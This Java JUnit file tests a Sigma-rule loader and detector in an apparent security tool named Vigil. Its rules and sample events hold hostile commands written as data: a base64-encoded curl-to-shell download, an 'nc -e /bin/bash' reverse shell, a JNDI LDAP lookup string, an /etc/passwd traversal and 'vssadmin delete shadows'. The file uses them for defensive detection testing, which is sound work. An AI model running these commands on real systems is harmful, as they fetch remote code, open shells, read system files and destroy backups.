package dev.vigil.sigma;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.detect.Detection;
import dev.vigil.catalogue.Severity;
import dev.vigil.event.Event;
import dev.vigil.event.HttpRequest;
import dev.vigil.event.Origin;
import dev.vigil.event.ProcessStart;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Sigma rules written for these tests, loaded from a folder and run through the detector. */
class SigmaRulesTest {
    @TempDir
    Path dir;

    private int n;

    private SigmaRuleSet load(String... rules) throws IOException {
        return load(SigmaLoader.Options.defaults(), rules);
    }

    private SigmaRuleSet load(SigmaLoader.Options options, String... rules) throws IOException {
        for (String r : rules) {
            Files.writeString(dir.resolve("rule" + (n++) + ".yml"), r);
        }
        return SigmaLoader.load(dir, options);
    }

    private static String rule(String id, String logsource, String detection) {
        return "title: Test rule " + id + "\nid: " + id + "\nstatus: test\nauthor: Vigil tests\nlevel: high\n"
                + "tags:\n  - attack.execution\n  - attack.t1059.001\n"
                + "logsource:\n" + logsource + "detection:\n" + detection;
    }

    private static final String WINDOWS = "  category: process_creation\n  product: windows\n";
    private static final String LINUX = "  category: process_creation\n  product: linux\n";
    private static final String WEB = "  category: webserver\n";

    private static ProcessStart win(String image, String cmd) {
        return ProcessStart.builder(new Origin("t", 1, 0)).host("h").pid(2).ppid(1).exe(image).commandLine(cmd).build();
    }

    private static ProcessStart proc(String image, String cmd, Map<String, String> more) {
        ProcessStart.Builder b = ProcessStart.builder(new Origin("t", 1, 0)).host("h").pid(2).ppid(1).exe(image)
                .commandLine(cmd);
        more.forEach((k, v) -> {
            switch (k) {
                case "parent" -> b.parentExe(v);
                case "user" -> b.user(v);
                default -> b.extra(k, v);
            }
        });
        return b.build();
    }

    private static HttpRequest get(String target, int status, String ua) {
        return HttpRequest.builder(new Origin("t", 1, 0)).method("GET").target(target).protocol("HTTP/1.1")
                .status(status).userAgent(ua).clientIp("203.0.113.7").build();
    }

    private static List<String> hits(SigmaRuleSet set, Event e) {
        List<String> out = new ArrayList<>();
        set.detector().inspect(e, d -> out.add(d.ruleId()));
        return out;
    }

    @Test
    void plainValuesMatchWithoutCaseAndOnlyOnTheRulesOs() throws IOException {
        SigmaRuleSet set = load(rule("w1", WINDOWS, "  selection:\n    Image|endswith: '\\whoami.exe'\n  condition: selection\n"),
                rule("l1", LINUX, "  selection:\n    Image|endswith: '/whoami'\n  condition: selection\n"));
        assertThat(set.rules()).hasSize(2);
        assertThat(hits(set, win("C:\\Windows\\System32\\WHOAMI.EXE", "whoami /all"))).containsExactly("sigma:w1");
        assertThat(hits(set, win("/usr/bin/whoami", "whoami"))).containsExactly("sigma:l1");
        assertThat(hits(set, win("C:\\Windows\\System32\\notwhoami.exe.bak", "x"))).isEmpty();
    }

    @Test
    void theOsOfAnEventIsToldFromItsExecutableNotFromShellEscapes() {
        assertThat(SigmaDetector.isWindows(win("C:\\Windows\\System32\\cmd.exe", "cmd /c dir"))).isTrue();
        assertThat(SigmaDetector.isWindows(win("powershell.exe", "powershell -nop"))).isTrue();
        assertThat(SigmaDetector.isWindows(win("/usr/bin/find", "find . -printf '%p\\0'"))).isFalse();
        // a bare name with backslash escapes in its command line is not a Windows process
        assertThat(SigmaDetector.isWindows(win("find", "find -printf \"%P\\0\" | awk -F'\\0' '{print $2}'"))).isFalse();
        assertThat(SigmaDetector.isWindows(win(null, "\"C:\\Program Files\\x.exe\" /s"))).isTrue();
        assertThat(SigmaDetector.isWindows(win(null, "sed -e 's/\\n//'"))).isFalse();
        assertThat(SigmaDetector.isWindows(proc("x", "x", Map.of("os", "Windows")))).isTrue();
    }

    @Test
    void detectionCarriesIdLevelTypeTechniqueAndAttribution() throws IOException {
        SigmaRuleSet set = load(rule("d1", WINDOWS, "  selection:\n    CommandLine|contains: ' -nop '\n  condition: selection\n"));
        List<Detection> out = new ArrayList<>();
        ProcessStart p = win("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell -NoP -nop -w hidden");
        set.detector().inspect(p, out::add);
        assertThat(out).hasSize(1);
        Detection d = out.get(0);
        assertThat(d.ruleId()).isEqualTo("sigma:d1");
        assertThat(d.severity()).isEqualTo(Severity.HIGH);
        assertThat(d.type().name()).isEqualTo("OffensivePowerShell");
        assertThat(d.value()).isEqualTo(p.commandLine());
        assertThat(d.decoded()).contains("Test rule d1").contains("by Vigil tests").contains("Detection Rule License");
        assertThat(set.rules().get(0).rule().techniques()).containsExactly("T1059.001");
        assertThat(set.rules().get(0).rule().tactics()).containsExactly("Execution");
    }

    @Test
    void wildcardsAndEscapes() throws IOException {
        SigmaRuleSet set = load(rule("wc", WINDOWS, "  selection:\n    CommandLine:\n      - 'net* user ?dmin'\n"
                + "      - 'literal\\*star'\n      - 'back\\\\*slash'\n  condition: selection\n"));
        assertThat(hits(set, win("C:\\x.exe", "NET.EXE user admin"))).containsExactly("sigma:wc");
        assertThat(hits(set, win("C:\\x.exe", "net user xadmin"))).isEmpty(); // ? is one character
        assertThat(hits(set, win("C:\\x.exe", "net user admin extra"))).isEmpty(); // no implicit contains
        assertThat(hits(set, win("C:\\x.exe", "literal*star"))).containsExactly("sigma:wc");
        assertThat(hits(set, win("C:\\x.exe", "literalXstar"))).isEmpty();
        assertThat(hits(set, win("C:\\x.exe", "back\\ANYTHINGslash"))).containsExactly("sigma:wc");
    }

    @Test
    void listsOfMapsAllModifierAndConditions() throws IOException {
        String det = "  selection_img:\n    - Image|endswith: '\\rundll32.exe'\n    - OriginalFileName: 'RUNDLL32.EXE'\n"
                + "  selection_cli:\n    CommandLine|contains|all:\n      - 'javascript:'\n      - 'RunHTMLApplication'\n"
                + "  filter_main:\n    ParentImage|startswith: 'C:\\Program Files\\'\n"
                + "  condition: all of selection_* and not 1 of filter_*\n";
        SigmaRuleSet set = load(rule("lm", WINDOWS, det));
        String cmd = "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \"";
        assertThat(hits(set, win("C:\\Windows\\System32\\rundll32.exe", cmd))).containsExactly("sigma:lm");
        assertThat(hits(set, proc("C:\\tmp\\renamed.exe", cmd, Map.of("OriginalFileName", "RUNDLL32.EXE"))))
                .containsExactly("sigma:lm");
        assertThat(hits(set, win("C:\\Windows\\System32\\rundll32.exe", "rundll32.exe javascript:alert(1)"))).isEmpty();
        assertThat(hits(set, proc("C:\\Windows\\System32\\rundll32.exe", cmd,
                Map.of("parent", "C:\\Program Files\\App\\app.exe")))).isEmpty();
    }

    @Test
    void themExcludesUnderscoreIdentifiersAndParenthesesGroup() throws IOException {
        String det = "  a:\n    CommandLine|contains: 'alpha'\n  b:\n    CommandLine|contains: 'beta'\n"
                + "  _c:\n    CommandLine|contains: 'gamma'\n  condition: all of them or (a and _c) or not (a or b or _c)\n";
        SigmaRuleSet set = load(rule("th", LINUX, det));
        assertThat(hits(set, win("/bin/x", "alpha beta"))).hasSize(1);
        assertThat(hits(set, win("/bin/x", "alpha gamma"))).hasSize(1);
        assertThat(hits(set, win("/bin/x", "alpha"))).isEmpty();
        assertThat(hits(set, win("/bin/x", "delta"))).hasSize(1);
    }

    @Test
    void windashBase64offsetRegexAndCased() throws IOException {
        SigmaRuleSet set = load(
                rule("wd", WINDOWS, "  s:\n    CommandLine|windash|contains: ' -enc '\n  condition: s\n"),
                rule("b64", LINUX, "  s:\n    CommandLine|base64offset|contains: 'curl http'\n  condition: s\n"),
                rule("re", LINUX, "  s:\n    CommandLine|re: 'nc(at)? -e /bin/[a-z]+sh'\n  condition: s\n"),
                rule("rei", LINUX, "  s:\n    CommandLine|re|i: '^PYTHON[23]? -c'\n  condition: s\n"),
                rule("cs", LINUX, "  s:\n    CommandLine|cased|contains: 'DoEvil'\n  condition: s\n"));
        assertThat(hits(set, win("C:\\w\\powershell.exe", "powershell /enc AAAA"))).containsExactly("sigma:wd");
        assertThat(hits(set, win("C:\\w\\powershell.exe", "powershell \u2013enc AAAA"))).containsExactly("sigma:wd");
        assertThat(hits(set, win("C:\\w\\powershell.exe", "powershell xenc AAAA"))).isEmpty();
        for (String prefix : List.of("", "x", "xy")) {
            String enc = Base64.getEncoder().encodeToString((prefix + "curl http://198.51.100.1/a|sh").getBytes());
            assertThat(hits(set, win("/bin/sh", "sh -c echo " + enc + " | base64 -d | sh"))).as(prefix)
                    .containsExactly("sigma:b64");
        }
        assertThat(hits(set, win("/bin/nc", "nc -e /bin/bash 1.2.3.4 4444"))).containsExactly("sigma:re");
        assertThat(hits(set, win("/bin/nc", "NC -E /BIN/BASH 1.2.3.4 4444"))).isEmpty(); // re is case-sensitive
        assertThat(hits(set, win("/usr/bin/python3", "python3 -c 'import pty'"))).containsExactly("sigma:rei");
        assertThat(hits(set, win("/bin/x", "x DoEvil"))).containsExactly("sigma:cs");
        assertThat(hits(set, win("/bin/x", "x doevil"))).isEmpty();
    }

    @Test
    void nullExistsFieldrefAndNumbers() throws IOException {
        SigmaRuleSet set = load(
                rule("nu", LINUX, "  s:\n    Image|endswith: '/sh'\n  f:\n    User: null\n  condition: s and not f\n"),
                rule("ex", LINUX, "  s:\n    Hashes|exists: true\n  condition: s\n"),
                rule("fr", LINUX, "  s:\n    Image|fieldref: ParentImage\n  condition: s\n"),
                rule("st", WEB, "  s:\n    sc-status|gte: 500\n    cs-method: 'GET'\n  condition: s\n"));
        assertThat(hits(set, proc("/bin/sh", "sh", Map.of("user", "www-data")))).containsExactly("sigma:nu");
        assertThat(hits(set, proc("/bin/sh", "sh", Map.of()))).isEmpty();
        assertThat(hits(set, proc("/bin/ls", "ls", Map.of("Hashes", "SHA256=00")))).containsExactly("sigma:ex");
        assertThat(hits(set, proc("/bin/ls", "ls", Map.of("parent", "/BIN/LS")))).containsExactly("sigma:fr");
        assertThat(hits(set, get("/x", 503, "curl"))).containsExactly("sigma:st");
        assertThat(hits(set, get("/x", 404, "curl"))).isEmpty();
    }

    @Test
    void webFieldsKeywordsAndCidr() throws IOException {
        SigmaRuleSet set = load(
                rule("kw", WEB, "  keywords:\n    - '${jndi:'\n  condition: keywords\n"),
                rule("q", WEB, "  s:\n    cs-uri-query|contains: '../'\n    cs-uri-stem|endswith: '.php'\n  condition: s\n"),
                rule("ip", WEB, "  s:\n    c-ip|cidr: '203.0.113.0/24'\n    cs-uri-stem: '/admin'\n  condition: s\n"));
        assertThat(hits(set, get("/", 200, "${JNDI:ldap://x/a}"))).containsExactly("sigma:kw");
        assertThat(hits(set, get("/index.php?page=../../etc/passwd", 200, "curl"))).containsExactly("sigma:q");
        assertThat(hits(set, get("/index.html?page=../../etc/passwd", 200, "curl"))).isEmpty();
        assertThat(hits(set, get("/admin", 200, "curl"))).containsExactly("sigma:ip");
    }

    private static HttpRequest from(String clientIp) {
        return HttpRequest.builder(new Origin("t", 1, 0)).method("GET").target("/admin").protocol("HTTP/1.1")
                .status(200).userAgent("curl").clientIp(clientIp).build();
    }

    @Test
    void cidrTakesIpv6BlocksBesideIpv4Ones() throws IOException {
        SigmaRuleSet set = load(
                rule("net", WEB, "  s:\n    c-ip|cidr:\n      - '10.0.0.0/8'\n      - 'fc00::/7'\n"
                        + "      - '2001:db8:abcd::/48'\n      - '::1'\n  condition: s\n"),
                rule("not", WEB, "  s:\n    cs-uri-stem: '/admin'\n  lan:\n    c-ip|cidr: 'fe80::/10'\n"
                        + "  condition: s and not lan\n"));
        assertThat(set.skipped()).isEmpty();
        assertThat(hits(set, from("10.1.2.3"))).containsExactly("sigma:net", "sigma:not");
        assertThat(hits(set, from("fd12:3456::1"))).containsExactly("sigma:net", "sigma:not");
        assertThat(hits(set, from("FC00::"))).containsExactly("sigma:net", "sigma:not");
        assertThat(hits(set, from("2001:db8:abcd:12::7"))).containsExactly("sigma:net", "sigma:not");
        assertThat(hits(set, from("[::1]"))).containsExactly("sigma:net", "sigma:not");
        // just outside each block
        assertThat(hits(set, from("fe00::1"))).containsExactly("sigma:not");
        assertThat(hits(set, from("2001:db8:abce::1"))).containsExactly("sigma:not");
        assertThat(hits(set, from("::2"))).containsExactly("sigma:not");
        assertThat(hits(set, from("11.0.0.1"))).containsExactly("sigma:not");
        // IPv6 link-local is left out by the second rule; an IPv4-mapped address is IPv6, not 10/8
        assertThat(hits(set, from("fe80::1%eth0"))).isEmpty();
        assertThat(hits(set, from("::ffff:10.0.0.1"))).containsExactly("sigma:not");
        // not an address at all
        assertThat(hits(set, from("fc00::zz"))).containsExactly("sigma:not");
        // a block that is neither family is skipped with the reason
        SigmaRuleSet bad = load(rule("bad", WEB, "  s:\n    c-ip|cidr: 'fc00::/129'\n  condition: s\n"));
        assertThat(String.join("\n", bad.lint())).contains("cidr 'fc00::/129' is not an IPv4 or IPv6 block");
    }

    @Test
    void identifierPatternsAreGlobsWithStarOnly() {
        assertThat(ConditionParser.globMatches("selection_*", "selection_img")).isTrue();
        assertThat(ConditionParser.globMatches("selection_*", "selection_")).isTrue();
        assertThat(ConditionParser.globMatches("selection_*", "selection")).isFalse();
        assertThat(ConditionParser.globMatches("*_img", "sel_a_img")).isTrue();
        assertThat(ConditionParser.globMatches("s*l*n", "selection")).isTrue();
        assertThat(ConditionParser.globMatches("s*l*n", "selections")).isFalse();
        assertThat(ConditionParser.globMatches("sel.", "selx")).as("a dot is a dot").isFalse();
        assertThat(ConditionParser.globMatches("Sel*", "sel1")).as("identifiers keep their case").isFalse();
        assertThat(ConditionParser.globMatches("*", "")).isTrue();
        // many stars over a long name: no blow-up
        assertThat(ConditionParser.globMatches("*a*a*a*a*a*a*a*a*b", "a".repeat(5000))).isFalse();
    }

    @Test
    void whatCannotRunIsSkippedWithTheReasonNeverDropped() throws IOException {
        SigmaRuleSet set = load(
                rule("agg", LINUX, "  s:\n    Image|endswith: '/sh'\n  condition: s | count() by User > 5\n"),
                rule("tf", LINUX, "  s:\n    Image|endswith: '/sh'\n  timeframe: 5m\n  condition: s\n"),
                rule("mod", LINUX, "  s:\n    Image|sounds_like: 'sh'\n  condition: s\n"),
                rule("fld", LINUX, "  s:\n    TargetFilename|endswith: '.sh'\n  condition: s\n"),
                rule("mac", "  category: process_creation\n  product: macos\n", "  s:\n    Image: '/bin/sh'\n  condition: s\n"),
                rule("reg", "  category: registry_set\n  product: windows\n", "  s:\n    TargetObject: 'x'\n  condition: s\n"),
                rule("pcre", LINUX, "  s:\n    CommandLine|re: '(?<=a)b'\n  condition: s\n"),
                rule("undef", LINUX, "  s:\n    Image: '/bin/sh'\n  condition: s and t\n"),
                "title: [broken\n  yaml: {",
                rule("ok", LINUX, "  s:\n    Image: '/bin/sh'\n  condition: s\n"));
        assertThat(set.rules()).extracting(SigmaRule::sigmaId).containsExactly("ok");
        assertThat(set.files()).isEqualTo(10);
        assertThat(set.skipped()).hasSize(9);
        assertThat(set.skippedCounts()).containsEntry(SigmaRuleSet.Reason.UNSUPPORTED, 8)
                .containsEntry(SigmaRuleSet.Reason.BROKEN, 1);
        assertThat(String.join("\n", set.lint()))
                .contains("rule agg: unsupported: aggregation")
                .contains("rule tf: unsupported: timeframe")
                .contains("unknown modifier 'sounds_like'")
                .contains("field 'TargetFilename' has no counterpart")
                .contains("logsource product 'macos'")
                .contains("logsource category 'registry_set'")
                .contains("is not RE2 syntax")
                .contains("does not define")
                .contains("not readable as YAML");
        // lint groups the reasons by kind: the identifier prefix and quoted names left out
        assertThat(set.unsupportedByKind())
                .containsEntry("field '…' has no counterpart in Vigil's process_creation events", 1)
                .containsEntry("logsource product '…': Vigil tells only Windows and Linux process events apart", 1);
    }

    @Test
    void deprecatedAndLowLevelRulesAreLeftOutUnlessAsked() throws IOException {
        String dep = rule("dep", LINUX, "  s:\n    Image: '/bin/sh'\n  condition: s\n").replace("status: test", "status: deprecated");
        String low = rule("low", LINUX, "  s:\n    Image: '/bin/sh'\n  condition: s\n").replace("level: high", "level: low");
        SigmaRuleSet set = load(new SigmaLoader.Options("medium", false), dep, low);
        assertThat(set.rules()).isEmpty();
        assertThat(set.skippedCounts()).containsEntry(SigmaRuleSet.Reason.LEFT_OUT, 2);
        SigmaRuleSet all = SigmaLoader.load(dir, new SigmaLoader.Options(null, true));
        assertThat(all.rules()).hasSize(2);
    }

    @Test
    void examplesInTheRuleFileRunThroughTheDetector() throws IOException {
        String r = rule("exm", WINDOWS, "  s:\n    CommandLine|contains: 'vssadmin delete shadows'\n  condition: s\n")
                + "examples:\n  match:\n    - CommandLine: 'vssadmin delete shadows /all /quiet'\n"
                + "  no_match:\n    - CommandLine: 'vssadmin list shadows'\n    - CommandLine: 'vssadmin delete shadows'\n";
        SigmaRuleSet set = load(r);
        // the second no_match example does match: the runner must say so
        assertThat(set.runExamples()).hasSize(1);
        assertThat(set.runExamples().get(0).shouldMatch()).isFalse();
    }

    @Test
    void examplesBesideTheRuleFileRunToo() throws IOException {
        Files.createDirectories(dir.resolve("win"));
        Files.writeString(dir.resolve("win/vss.yml"),
                rule("vss", WINDOWS, "  s:\n    CommandLine|contains|all: ['vssadmin', 'delete shadows']\n  condition: s\n"));
        Files.writeString(dir.resolve("win/vss.examples.yml"), "match:\n  - CommandLine: 'vssadmin Delete Shadows /all'\n"
                + "  - 'C:\\Windows\\System32\\vssadmin.exe delete shadows /quiet'\n"
                + "no_match:\n  - CommandLine: 'vssadmin list shadows'\n  - CommandLine: 'vssadmin delete shadows'\n");
        SigmaRuleSet set = SigmaLoader.load(dir, SigmaLoader.Options.defaults());
        assertThat(set.files()).as("an examples file is not a rule file").isEqualTo(1);
        SigmaRule r = set.rules().get(0);
        assertThat(r.folderExamples().file()).isEqualTo("win/vss.examples.yml");
        assertThat(r.exampleCount()).isEqualTo(4);
        // the last no_match example does match: it is reported against the examples file
        assertThat(set.runExamples()).singleElement().satisfies(f -> {
            assertThat(f.file()).isEqualTo("win/vss.examples.yml");
            assertThat(f.shouldMatch()).isFalse();
        });
        assertThat(set.problems()).isEmpty();
        Files.writeString(dir.resolve("win/other.examples.yml"), "match: [x]\n");
        Files.writeString(dir.resolve("win/vss.examples.yaml"), "just: text\n");
        SigmaRuleSet again = SigmaLoader.load(dir, SigmaLoader.Options.defaults());
        assertThat(again.problems()).containsExactlyInAnyOrder(
                "win/other.examples.yml: examples for no rule: there is no other.yml beside it",
                "win/vss.examples.yaml: examples: expected one YAML map with a match or no_match list");
        assertThat(again.lint()).contains(again.problems().get(0));
    }
}
